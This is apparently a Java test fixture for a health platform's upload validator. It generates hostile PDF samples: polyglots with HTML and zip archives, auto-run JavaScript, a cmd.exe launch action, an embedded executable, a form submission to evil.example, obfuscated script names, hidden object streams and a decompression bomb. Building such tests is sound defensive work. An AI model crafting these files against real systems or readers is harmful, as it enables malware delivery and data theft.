package health.zaoxue.platform.files;

import static health.zaoxue.platform.files.Paper.latin;

import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

/** Documents that must not be kept. */
final class BadPapers {
    private static final String SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    private static final int FAR_TOO_MUCH = 64 * 1024 * 1024;

    private BadPapers() {}

    static Stream<Sample> all() {
        return Stream.of(broken(), active(), hidden()).flatMap(List::stream);
    }

    private static List<Sample> broken() {
        byte[] good = new Paper().pdf();
        String broken = PdfDocument.BROKEN;
        String neither = Picture.NOT_A_PICTURE;
        byte[] archive = Archives.of("evil.html", latin("<script>alert(1)</script>"));
        return List.of(
                new Sample("a PDF cut off in the middle", Arrays.copyOf(good, good.length / 2), broken),
                new Sample("a PDF without its last line", Arrays.copyOf(good, good.length - 7), broken),
                new Sample("nothing but a first and a last line", latin("%PDF-1.7\n%%EOF\n"), broken),
                new Sample("a PDF whose table is elsewhere", moved(good), broken),
                new Sample("a page of the web called quotation.pdf", latin("<html><script>alert(1)</script>"), neither),
                new Sample("a PDF behind a page of the web", joined(latin("<html><script>1</script>"), good), neither),
                new Sample("a page of the web behind a PDF", joined(good, latin("<html><script>1</script>")), broken),
                new Sample("an archive behind a PDF", joined(good, archive), broken),
                new Sample("an archive that ends like a PDF", joined(archive(good, archive), tail(good)), broken),
                new Sample(
                        "a PDF locked with a password",
                        new Paper().trailer("/Encrypt 4 0 R").pdf(),
                        PdfDocument.LOCKED));
    }

    private static List<Sample> active() {
        String active = PdfDocument.ACTIVE;
        return List.of(
                new Sample(
                        "a PDF with a script on opening",
                        new Paper().catalog("/OpenAction " + SCRIPT).pdf(),
                        active),
                new Sample(
                        "a PDF with scripts by name",
                        new Paper().catalog("/Names << /JavaScript 4 0 R >>").pdf(),
                        active),
                new Sample(
                        "a PDF that starts a program",
                        new Paper().object("<< /S /Launch /F (cmd.exe) >>").pdf(),
                        active),
                new Sample(
                        "a PDF with another file in it",
                        new Paper().stream("/Type /EmbeddedFile", latin("MZ")).pdf(),
                        active),
                new Sample(
                        "a PDF with a film",
                        new Paper().object("<< /Subtype /RichMedia >>").pdf(),
                        active),
                new Sample(
                        "a PDF with a living form",
                        new Paper().object("<< /XFA 5 0 R >>").pdf(),
                        active),
                new Sample(
                        "a PDF that sends itself away",
                        new Paper()
                                .object("<< /S /SubmitForm /F (https://evil.example) >>")
                                .pdf(),
                        active),
                new Sample(
                        "a PDF that opens one in it",
                        new Paper().object("<< /S /GoToE >>").pdf(),
                        active));
    }

    private static List<Sample> hidden() {
        String objects = "/Filter /FlateDecode /N 1 /First 4";
        byte[] packedScript = Paper.packed(latin("9 0 " + SCRIPT));
        return List.of(
                new Sample(
                        "a script spelt otherwise",
                        new Paper().object("<< /S /J#61vaScript /#4aS (1) >>").pdf(),
                        PdfDocument.ACTIVE),
                new Sample(
                        "a script among packed objects",
                        new Paper()
                                .stream("/Type /ObjStm " + objects, packedScript)
                                        .pdf(),
                        PdfDocument.ACTIVE),
                new Sample(
                        "a script among packed objects that do not say what they are",
                        new Paper().stream(objects, packedScript).pdf(),
                        PdfDocument.ACTIVE),
                new Sample(
                        "a script within what should be a drawing",
                        new Paper()
                                .stream("/Subtype /Image", latin("9 0 obj " + SCRIPT + " endobj"))
                                        .pdf(),
                        PdfDocument.ACTIVE),
                new Sample(
                        "packed objects that swell without end",
                        new Paper()
                                .stream("/Type /ObjStm " + objects, Paper.packed(new byte[FAR_TOO_MUCH]))
                                        .pdf(),
                        PdfDocument.BROKEN),
                new Sample(
                        "packed objects that nobody can look into",
                        new Paper()
                                .stream("/Type /ObjStm /N 1 /First 4 /Filter [/LZWDecode /FlateDecode]", packedScript)
                                        .pdf(),
                        PdfDocument.BROKEN),
                new Sample(
                        "packed objects that are damaged",
                        new Paper()
                                .stream("/Type /ObjStm " + objects, latin("no deflated data"))
                                        .pdf(),
                        PdfDocument.BROKEN));
    }

    /** Reads as a PDF from the front, and as an archive from the back: the end of the PDF is the archive's comment. */
    private static byte[] archive(byte[] good, byte[] archive) {
        return joined(Arrays.copyOf(good, good.length - tail(good).length), archive);
    }

    private static byte[] tail(byte[] good) {
        String text = new String(good, java.nio.charset.StandardCharsets.ISO_8859_1);
        return latin(text.substring(text.lastIndexOf("startxref")));
    }

    private static byte[] moved(byte[] good) {
        String text = new String(good, java.nio.charset.StandardCharsets.ISO_8859_1);
        return latin(text.replaceAll("startxref\\n\\d+", "startxref\n12"));
    }

    static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Stream.of(parts).forEach(bytes::writeBytes);
        return bytes.toByteArray();
    }
}
